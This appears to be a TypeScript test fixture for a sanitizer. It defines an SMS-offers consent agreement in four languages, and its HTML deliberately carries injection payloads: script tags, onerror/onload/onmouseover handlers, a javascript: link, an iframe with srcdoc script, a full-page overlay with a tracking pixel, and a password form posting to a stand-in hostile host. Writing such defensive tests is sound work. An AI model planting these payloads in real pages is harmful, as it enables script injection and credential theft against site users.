import { SMS_CHANNEL_ID } from '../channels.ts';
import type { AgreementDefinition } from './definition.ts';

// Consent texts are HTML from outside. Inside plausible sentences, this one has what must never run or show on a
// page: scripts, handlers, frames, forms, styles, unclosed tags.
const SCRIPT = '<script>window.__hostile = "script"; alert(1)</script>';
const IMAGE = '<img src="x" onerror="window.__hostile = \'img\'">';
const FRAME =
  '<iframe src="https://hostile.example.com/" srcdoc="<script>parent.__hostile = 1</script>"></iframe>';
const FORM =
  '<form action="https://hostile.example.com/collect" method="post"><input name="password" type="password">' +
  '<button>OK</button></form>';
const DRAWING = '<svg onload="window.__hostile = \'svg\'"><circle r="9"></circle></svg>';
const UNCLOSED = '<ul><li><strong><em>';

const STYLED =
  'style="position:fixed;inset:0;z-index:9999;background:url(https://hostile.example.com/pixel)"';
const HANDLER = 'onmouseover="window.__hostile = \'handler\'"';
const BAD_LINK = 'href="javascript:window.__hostile = \'link\'"';

export const sms: AgreementDefinition = {
  id: '8e05d7f2a1c94b683f70e2d5ba',
  channelId: SMS_CHANNEL_ID,
  lastChange: '2024-05-20 16:45:10',
  name: {
    cs: 'Nabídky přes SMS',
    en: 'Offers by text message',
    sk: 'Ponuky cez SMS',
    de: 'Angebote per SMS',
  },
  text: {
    cs: `<h3 ${STYLED}>Krátké zprávy o velkých slevách</h3>${SCRIPT}
<p ${HANDLER}>Nejvýše dvakrát měsíčně vám <strong>pošleme SMS</strong> se slevou platnou jen pár dní.${IMAGE}</p>${FRAME}
<p>Zprávy jsou pro vás zdarma. Podrobnosti najdete <a ${BAD_LINK}>zde</a> nebo na <a href="https://www.example.com/cs/sms">našich stránkách</a>.</p>${FORM}${DRAWING}
${UNCLOSED}Odpovědí STOP zprávy ukončíte.`,
    en: `<h3 ${STYLED}>Short messages about big discounts</h3>${SCRIPT}
<p ${HANDLER}>Twice a month at most we will <strong>send you a text message</strong> with a discount that is valid for a few days only.${IMAGE}</p>${FRAME}
<p>The messages cost you nothing. Details are <a ${BAD_LINK}>here</a> or on <a href="https://www.example.com/en/sms">our website</a>.</p>${FORM}${DRAWING}
${UNCLOSED}Reply STOP to end the messages.`,
    sk: `<h3 ${STYLED}>Krátke správy o veľkých zľavách</h3>${SCRIPT}
<p ${HANDLER}>Najviac dvakrát mesačne vám <strong>pošleme SMS</strong> so zľavou platnou len pár dní.${IMAGE}</p>${FRAME}
<p>Správy sú pre vás zadarmo. Podrobnosti nájdete <a ${BAD_LINK}>tu</a> alebo na <a href="https://www.example.com/sk/sms">našich stránkach</a>.</p>${FORM}${DRAWING}
${UNCLOSED}Odpoveďou STOP správy ukončíte.`,
    de: `<h3 ${STYLED}>Kurze Nachrichten über große Rabatte</h3>${SCRIPT}
<p ${HANDLER}>Höchstens zweimal im Monat <strong>schicken wir Ihnen eine SMS</strong> mit einem Rabatt, der nur wenige Tage gilt.${IMAGE}</p>${FRAME}
<p>Die Nachrichten sind für Sie kostenlos. Einzelheiten finden Sie <a ${BAD_LINK}>hier</a> oder auf <a href="https://www.example.com/de/sms">unserer Website</a>.</p>${FORM}${DRAWING}
${UNCLOSED}Mit der Antwort STOP beenden Sie die Nachrichten.`,
  },
  withdrawalText: {
    cs: `<p>SMS s nabídkami vám přestaneme posílat.${IMAGE}</p>`,
    en: `<p>We will stop sending you text messages with offers.${IMAGE}</p>`,
    sk: `<p>SMS s ponukami vám prestaneme posielať.${IMAGE}</p>`,
    de: `<p>Wir senden Ihnen keine SMS mit Angeboten mehr.${IMAGE}</p>`,
  },
};
